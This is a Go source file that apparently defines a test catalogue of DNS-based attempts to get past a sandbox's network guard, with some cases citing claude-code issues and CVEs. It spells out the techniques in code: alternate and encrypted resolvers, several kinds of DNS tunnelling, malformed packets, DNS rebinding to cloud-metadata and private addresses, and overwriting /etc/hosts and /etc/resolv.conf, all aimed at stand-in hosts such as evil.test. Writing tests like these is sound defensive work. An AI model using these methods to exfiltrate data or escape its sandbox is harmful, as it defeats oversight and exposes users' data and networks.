package attack

import (
	"fmt"
	"strings"

	"golang.org/x/net/dns/dnsmessage"
)

const typeA = dnsmessage.TypeA

// resolverAttacks ask somebody else than the sandbox's resolver.
func resolverAttacks() []Attack {
	const family = "other resolvers"
	one := func(id, tries, source string, do func(*Agent) error) Attack {
		return Attack{ID: id, Family: family, Tries: tries, Source: source, Do: do}
	}
	over := func(network, server string) func(*Agent) error {
		return func(a *Agent) error {
			_, err := exchange(network, server, patience, pack(query(a.word+".evil.test", typeA)))
			return err
		}
	}
	return []Attack{
		one("dns-udp-public", "a public resolver over UDP", "claude-code #36907", over("udp", at(publicDNS, 53))),
		one("dns-tcp-public", "a public resolver over TCP", "CVE-2026-32946, CVE-2025-47775", over("tcp", at(publicDNS, 53))),
		one("dns-udp6-public", "a public resolver over UDP and IPv6", "claude-code #24952", over("udp", at(publicDNS6, 53))),
		one("dns-tcp6-public", "a public resolver over TCP and IPv6", "", over("tcp", at(publicDNS6, 53))),
		one("dns-udp-upstream", "the machine's own resolver over UDP, past ours", "CVE-2026-32947", over("udp", system)),
		one("dns-tcp-upstream", "the machine's own resolver over TCP, past ours", "CVE-2026-32947", over("tcp", system)),
		one("dns-gateway", "the gateway as a resolver", "", func(a *Agent) error { return a.ask(at(gatewayAddr, 53), "evil.test", typeA) }),
		one("dns-neighbour", "another machine of the network as a resolver", "",
			func(a *Agent) error { return a.ask(at(neighbour, 53), "evil.test", typeA) }),
		one("udp53-any-payload", "a datagram that is no DNS to port 53 of any host", "claude-code #36907",
			func(a *Agent) error { return a.udp(a.evil4(53), a.evil6(53)) }),
		one("tcp53-any-payload", "a stream that is no DNS to port 53 of any host", "",
			func(a *Agent) error { return a.tcp(a.evil4(53), a.evil6(53)) }),
		one("dns-over-tls", "DNS over TLS, port 853", "", func(a *Agent) error {
			return all(shake(at(publicDNS, 853), a.word+".dot.test"), a.tcp(a.evil4(853), a.evil6(853)))
		}),
		one("dns-over-quic", "DNS over QUIC, port 853/udp", "", func(a *Agent) error { return a.udp(a.evil4(853), a.evil6(853)) }),
		one("doh-by-address", "DNS over HTTPS at an address that is known beforehand", "CVE-2026-32947", func(a *Agent) error {
			return all(shake(at(publicDNS, 443), a.word+".doh.test"), shake(at(publicDNS6, 443), a.word+".doh.test"))
		}),
		one("doh-http3", "DNS over HTTP/3 at such an address", "", func(a *Agent) error { return a.udp(a.evil4(443), a.evil6(443)) }),
		one("doh-plain-http", "DNS over HTTP without TLS at such an address", "", func(a *Agent) error {
			_, err := fetch(at(publicDNS, 80), a.word+".doh.test")
			return err
		}),
		one("doh-allowed-sni", "DNS over HTTPS at such an address, under an allowed TLS name", "", func(a *Agent) error {
			return all(learn("ok.test"), shake(a.evil4(443), "ok.test"), shake(a.evil6(443), "ok.test"))
		}),
		one("mdns", "a question by multicast DNS", "", func(a *Agent) error { return a.udp("224.0.0.251:5353", "[ff02::fb%eth0]:5353") }),
		one("llmnr", "a question by link-local multicast name resolution", "",
			func(a *Agent) error { return a.udp("224.0.0.252:5355", "[ff02::1:3%eth0]:5355") }),
		one("dns-other-port", "a resolver on another port", "",
			func(a *Agent) error { return a.udp(at(publicDNS, int(a.port)), at(publicDNS, 5353)) }),
		one("dns-large-fragmented", "a question of 4,000 bytes, which travels in fragments", "", func(a *Agent) error {
			return send("udp", a.evil4(53), []byte(strings.Repeat(a.word, 4000/len(a.word))), nil)
		}),
		one("dns-many-sockets", "fifty resolvers at once, in the hope that one slips through", "", func(a *Agent) error {
			done := make(chan error)
			m := pack(query(a.word+".evil.test", typeA))
			for range 50 {
				go func() { _, err := exchange("udp", a.evil4(53), patience, m); done <- err }()
			}
			var last error
			for range 50 {
				last = <-done
			}
			return last
		}),
		one("dns-repeated", "the same question again and again, while the first is judged", "", func(a *Agent) error {
			m := pack(query(a.word+".evil.test", typeA))
			_, err := exchange("udp", system, patience, m, m, m, m)
			return err
		}),
	}
}

// tunnelAttacks put data into questions to the resolver that they have.
func tunnelAttacks() []Attack {
	const family = "DNS tunnels"
	one := func(id, tries, source string, do func(*Agent) error) Attack {
		return Attack{ID: id, Family: family, Tries: tries, Source: source, Do: do}
	}
	// Questions that bear no mark but are known by their name and type.
	typed := func(id, name string, typ dnsmessage.Type) Attack {
		text := strings.TrimPrefix(typ.String(), "Type")
		if typ == 65 {
			text = "HTTPS"
		}
		a := one(id, "a question of type "+text+" for an allowed name", "", func(*Agent) error {
			_, err := exchange("udp", system, patience, pack(query(name, typ)))
			return err
		})
		a.Leak = askedType(uint16(typ))
		return a
	}
	raw := func(id, tries, source string, message func(a *Agent) []byte) Attack {
		return one(id, tries, source, func(a *Agent) error {
			m := message(a)
			_, err1 := exchange("udp", system, patience, m)
			_, err2 := exchange("tcp", system, patience, m)
			return all(err1, err2)
		})
	}
	list := []Attack{
		one("tunnel-label", "data in the labels of a name of one's own zone", "",
			func(a *Agent) error { return a.ask(system, "evil.test", typeA) }),
		one("tunnel-txt", "TXT records of one's own zone", "", func(a *Agent) error { return a.ask(system, "evil.test", dnsmessage.TypeTXT) }),
		one("tunnel-null", "NULL records of one's own zone", "", func(a *Agent) error { return a.ask(system, "evil.test", 10) }),
		one("tunnel-cname", "CNAME records of one's own zone", "",
			func(a *Agent) error { return a.ask(system, "evil.test", dnsmessage.TypeCNAME) }),
		one("tunnel-https-record", "HTTPS records of one's own zone", "", func(a *Agent) error { return a.ask(system, "evil.test", 65) }),
		one("tunnel-reverse", "reverse lookups of addresses that carry data", "",
			func(a *Agent) error { return a.ask(system, "1.217.184.93.in-addr.arpa", dnsmessage.TypePTR) }),
		one("tunnel-below-exact", "data in labels below an exactly allowed name", "",
			func(a *Agent) error { return a.ask(system, "ok.test", typeA) }),
		one("tunnel-search-domain", "a name completed with the machine's search domain", "",
			func(a *Agent) error { return a.ask(system, "corp.lan", typeA) }),
		typed("type-txt", "ok.test", dnsmessage.TypeTXT),
		typed("type-any", "ok.test", 255),
		typed("type-mx", "ok.test", dnsmessage.TypeMX),
		typed("type-srv", "ok.test", dnsmessage.TypeSRV),
		typed("type-ns", "ok.test", dnsmessage.TypeNS),
		typed("type-soa", "ok.test", dnsmessage.TypeSOA),
		typed("type-https", "ok.test", 65),
		typed("type-null", "data.wild.test", 10),
		one("pipelined-tcp", "a second question in the TCP segment of an allowed one", "BullFrog, DNS pipelining", func(a *Agent) error {
			_, err := exchange("tcp", system, patience, pack(query("ok.test", typeA)), pack(query(a.word+".evil.test", typeA)))
			return err
		}),
		raw("two-questions", "two questions in one message, the first an allowed one", "", func(a *Agent) []byte {
			m := query("ok.test", typeA)
			m.Questions = append(m.Questions, query(a.word+".evil.test", typeA).Questions...)
			return pack(m)
		}),
		raw("edns-data", "data in an EDNS option of an allowed question", "", func(a *Agent) []byte {
			m := query("ok.test", typeA)
			var h dnsmessage.ResourceHeader
			_ = h.SetEDNS0(1232, 0, false)
			m.Additionals = []dnsmessage.Resource{
				{Header: h, Body: &dnsmessage.OPTResource{Options: []dnsmessage.Option{{Code: 65001, Data: []byte(a.word)}}}}}
			return pack(m)
		}),
		raw("additional-record", "data in a further record of an allowed question", "", func(a *Agent) []byte {
			m := query("ok.test", typeA)
			m.Additionals = []dnsmessage.Resource{{
				Header: dnsmessage.ResourceHeader{Name: dnsmessage.MustNewName("x."), Type: dnsmessage.TypeTXT, Class: dnsmessage.ClassINET},
				Body:   &dnsmessage.TXTResource{TXT: []string{a.word}},
			}}
			return pack(m)
		}),
		raw("trailing-bytes", "data behind an allowed question", "",
			func(a *Agent) []byte { return append(pack(query("ok.test", typeA)), a.word...) }),
		raw("nul-in-name", "a name with a NUL byte before an allowed ending",
			"the SOCKS bypass fixed in sandbox-runtime 0.0.43", func(a *Agent) []byte {
				return labels(a.word+".evil.test\x00", "ok", "test")
			}),
		raw("dot-in-label", "a dot inside a label, which some programs take for a border", "",
			func(a *Agent) []byte { return labels(a.word + ".ok.test") }),
		raw("class-chaos", "a question of class CHAOS", "", func(a *Agent) []byte {
			m := query(a.word+".evil.test", dnsmessage.TypeTXT)
			m.Questions[0].Class = dnsmessage.ClassCHAOS
			return pack(m)
		}),
		raw("opcode-update", "a dynamic update that carries data", "", func(a *Agent) []byte {
			m := query(a.word+".evil.test", dnsmessage.TypeSOA)
			m.OpCode = 5
			return pack(m)
		}),
		raw("opcode-notify", "a notification that carries data", "", func(a *Agent) []byte {
			m := query(a.word+".evil.test", dnsmessage.TypeSOA)
			m.OpCode = 4
			return pack(m)
		}),
		raw("reply-as-question", "a message that says it is a reply", "", func(a *Agent) []byte {
			m := query(a.word+".evil.test", typeA)
			m.Response = true
			return pack(m)
		}),
		raw("zone-transfer", "a zone transfer of one's own zone", "",
			func(a *Agent) []byte { return pack(query(a.word+".evil.test", dnsmessage.TypeAXFR)) }),
	}
	wildcard := one("tunnel-below-wildcard", "300 names of 60 bytes of data below an allowed wildcard; the first 100 may pass",
		"", func(a *Agent) error {
			var last error
			for i := range 300 {
				name := strings.Repeat("d", 50) + string(rune('a'+i%26)) + string(rune('a'+i/26)) + ".wild.test"
				_, last = exchange("udp", system, patience, pack(query(name, typeA)))
			}
			return last
		})
	wildcard.Leak, wildcard.Least = asked("wild.test"), 101
	short := one("tunnel-short-names", "800 names of 30 bytes of data below an allowed wildcard; the first 500 may pass",
		"", func(a *Agent) error {
			var last error
			for i := range 800 {
				_, last = exchange("udp", system, patience, pack(query(fmt.Sprintf("%030d.brief.test", i), typeA)))
			}
			return last
		})
	short.Leak, short.Least = asked("brief.test"), 501
	order := one("tunnel-order-of-names",
		"2,400 questions for 64 names below an allowed wildcard whose answers are refused: data in their order; "+
			"the first 664 may pass, and 4 a second", "",
		func(*Agent) error {
			var last error
			for i := range 2400 {
				_, last = exchange("udp", system, patience, pack(query(fmt.Sprintf("n%d.tide.test", i*37%64), typeA)))
			}
			return last
		})
	order.Leak, order.Least = asked("tide.test"), 1500
	letters := one("tunnel-letter-case", "data in the upper and lower case of an allowed name", "", func(*Agent) error {
		var last error
		for _, name := range caseTunnel {
			_, last = exchange("udp", system, patience, pack(query(name, typeA)))
		}
		return last
	})
	letters.Leak = func(e Event) bool {
		for _, name := range caseTunnel {
			if e.Kind == QuestionEvent && e.Name == name {
				return true
			}
		}
		return false
	}
	letters.Least = len(caseTunnel)
	ids := one("tunnel-query-id", "data in the number of an allowed question", "", func(*Agent) error {
		var last error
		for _, name := range idTunnel {
			m := query(name, typeA)
			m.ID = 0xbeef
			_, last = exchange("udp", system, patience, pack(m))
		}
		return last
	})
	ids.Leak = func(e Event) bool { return e.Kind == QuestionEvent && e.ID == 0xbeef }
	ids.Least = 2
	return append(list, wildcard, short, order, letters, ids)
}

var (
	caseTunnel = []string{"oNe-LeTtEr.WiLd.TeSt", "tWO-LETTer.WILD.test", "THree-letter.wILd.tESt"}
	idTunnel   = []string{"first.wild.test", "second.wild.test", "third.wild.test"}
)

// labels is a question for a name of any bytes.
func labels(parts ...string) []byte {
	b := []byte{0x1e, 0x4b, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, p := range parts {
		b = append(append(b, byte(len(p))), p...)
	}
	return append(b, 0, 0, 1, 0, 1)
}

// answerAttacks make an allowed name lead where it must not.
func answerAttacks() []Attack {
	const family = "answers"
	rebind := func(id, name, addr, tries string, typ dnsmessage.Type) Attack {
		return Attack{ID: id, Family: family, Tries: "an allowed name that answers with " + tries, Leak: to(addr), Do: func(a *Agent) error {
			_, err := resolve(name, typ)
			_, fetched := fetch(at(addr, 80), name) // as an honest client would, so the guard has nothing against it
			return all(err, fetched, shake(at(addr, 443), name), a.tcp(at(addr, 80), at(addr, 443)), a.udp(at(addr, 443)))
		}}
	}
	loopback := Attack{ID: "rebind-loopback", Family: family,
		Tries:   "an allowed name that answers with a loopback address, to reach a local service",
		Vacuous: "nothing of it would leave the machine; the resolver's tests hold it", Leak: to("127.0.0.1"),
		Do: func(a *Agent) error {
			_, err := resolve("rebind-loopback.test", typeA)
			return all(err, a.tcp("127.0.0.1:80"))
		}}
	return []Attack{
		rebind("rebind-metadata", "rebind-metadata.test", metadata, "the cloud's metadata address", typeA),
		rebind("rebind-lan", "rebind-lan.test", lanAddr, "a private address", typeA),
		rebind("rebind-gateway", "rebind-gateway.test", gatewayAddr, "the gateway's address", typeA),
		rebind("rebind-shared-space", "rebind-shared.test", sharedSpace, "an address of a provider's own network (RFC 6598)", typeA),
		rebind("rebind-ula", "rebind-ula.test", lanAddr6, "a private IPv6 address", dnsmessage.TypeAAAA),
		rebind("rebind-mapped", "rebind-mapped.test", lanAddr, "a private address in the form of an IPv6 one", dnsmessage.TypeAAAA),
		rebind("rebind-nat64", "rebind-nat64.test", "64:ff9b::a9fe:a9fe", "the metadata address behind NAT64", dnsmessage.TypeAAAA),
		rebind("rebind-6to4", "rebind-6to4.test", "2002:a9fe:a9fe::1", "the metadata address behind 6to4", dnsmessage.TypeAAAA),
		loopback,
		{ID: "alias-of-denied", Family: family, Tries: "an allowed name that is an alias of a denied one", Leak: to(deniedAddr),
			Do: func(a *Agent) error {
				return all(learn("alias.test"), a.tcp(at(deniedAddr, 443), at(deniedAddr, 80)))
			}},
		{ID: "hosts-file", Family: family, Tries: "/etc/hosts gives an allowed name another address", Do: func(a *Agent) error {
			err := write("/etc/hosts", a.v4.String()+" ok.test\n")
			_, fetched := fetch(a.evil4(80), "ok.test")
			return all(err, shake(a.evil4(443), "ok.test"), fetched)
		}},
		{ID: "resolv-conf", Family: family, Tries: "/etc/resolv.conf names another resolver", Do: func(a *Agent) error {
			return all(write("/etc/resolv.conf", "nameserver "+a.v4.String()+"\n"), a.ask(a.evil4(53), "evil.test", typeA))
		}},
		{ID: "unresolved-address", Family: family, Tries: "the address of an allowed name that was not resolved yet",
			Leak: func(e Event) bool { return to(manyLast)(e) && e.DstPort == 8443 },
			Do:   func(a *Agent) error { return all(a.tcp(at(manyLast, 8443)), a.udp(at(manyLast, 8443))) }},
	}
}

// manyLast is an address outside what many.test answers with.
const manyLast = "93.184.216.250"
